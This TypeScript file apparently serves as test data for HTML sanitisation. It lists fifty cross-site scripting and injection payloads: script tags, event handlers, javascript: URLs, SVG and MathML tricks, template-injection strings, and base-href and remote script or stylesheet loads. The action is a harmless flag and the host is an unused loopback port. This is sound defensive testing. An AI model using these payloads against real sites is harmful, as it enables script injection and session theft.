/** What a script of a payload sets, if it runs. */
export const flag = 'ranHostileText';

const run = `window.${flag}=1`;
/** Nobody listens there; a browser would ask it all the same. */
const elsewhere = 'http://127.0.0.1:9';

/**
 * Fifty texts that run, call elsewhere or disturb the page where a page takes them for anything but text.
 *
 * @see https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<script type="module">${run}</script>`,
  `<script>/*</script>--><script>${run}//*/</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" `,
  `<img src="${elsewhere}/x.png">`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><script>${run}</script>">`,
  `<img srcset="${elsewhere}/x.png 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.${flag}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${flag}=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<a href="javascript:${run}">go</a>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\u0009script:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[go](javascript:${run})`,
  `![x](${elsewhere}/x.png)`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="${elsewhere}/">`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href="${elsewhere}/x.css"><p style="background:url(${elsewhere}/x)">`,
  `\u202Egnihton\u202C \u2066left\u2069 \u200Bnothing\u200B`,
  `__proto__ constructor toString %00 \uFFFE \u{1F4A9}`,
];
